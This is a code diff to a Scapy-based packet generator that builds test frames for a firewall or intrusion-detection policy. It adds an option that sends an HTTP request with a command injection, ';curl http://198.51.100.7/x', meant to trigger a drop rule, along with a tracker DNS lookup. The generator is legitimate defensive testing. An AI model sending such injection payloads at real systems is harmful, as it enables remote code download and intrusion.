@@ -41,6 +41,14 @@ def frames(args):
         bad = bad[:14] + bytes([0x44]) + bad[15:]      # IHL 4
         out.append(("malformed_ihl", bad))
         out.append(("malformed_synfin", eth / IP(src=me, dst=dut) / TCP(sport=44000 + i, dport=80, flags="SF")))
+        if args.extra:
+            # for the example policy: an HTTP request carrying a shell
+            # download (rule 300 drops it) and a tracker lookup (rule 100 alerts)
+            out.append(("http_attack", eth / IP(src=me, dst=dut) /
+                        TCP(sport=48000 + i, dport=80, flags="PA", seq=1000, ack=1) /
+                        Raw(b"GET /?q=1;curl http://198.51.100.7/x HTTP/1.1\r\nHost: a\r\n\r\n")))
+            out.append(("dns_tracker", eth / IP(src=me, dst=dut) / UDP(sport=49000 + i, dport=53) /
+                        DNS(rd=1, qd=DNSQR(qname="cdn.tracker.example.net"))))
     for i in range(args.flood):
         out.append(("flood", eth / IP(src=args.flood_ip, dst=dut) / UDP(sport=45000, dport=9) / Raw(b"f" * 18)))
     return out
@@ -59,6 +67,8 @@ def main():
     ap.add_argument("--payload-port", type=int, default=5000, help="UDP port of the payload samples")
     ap.add_argument("--count", type=int, default=5, help="rounds of the mix")
     ap.add_argument("--flood", type=int, default=0, help="back-to-back frames from --flood-ip")
+    ap.add_argument("--extra", action="store_true",
+                    help="add an HTTP shell-download request and a tracker DNS lookup")
     args = ap.parse_args()
 
     if not args.iface and not args.pcap_out:
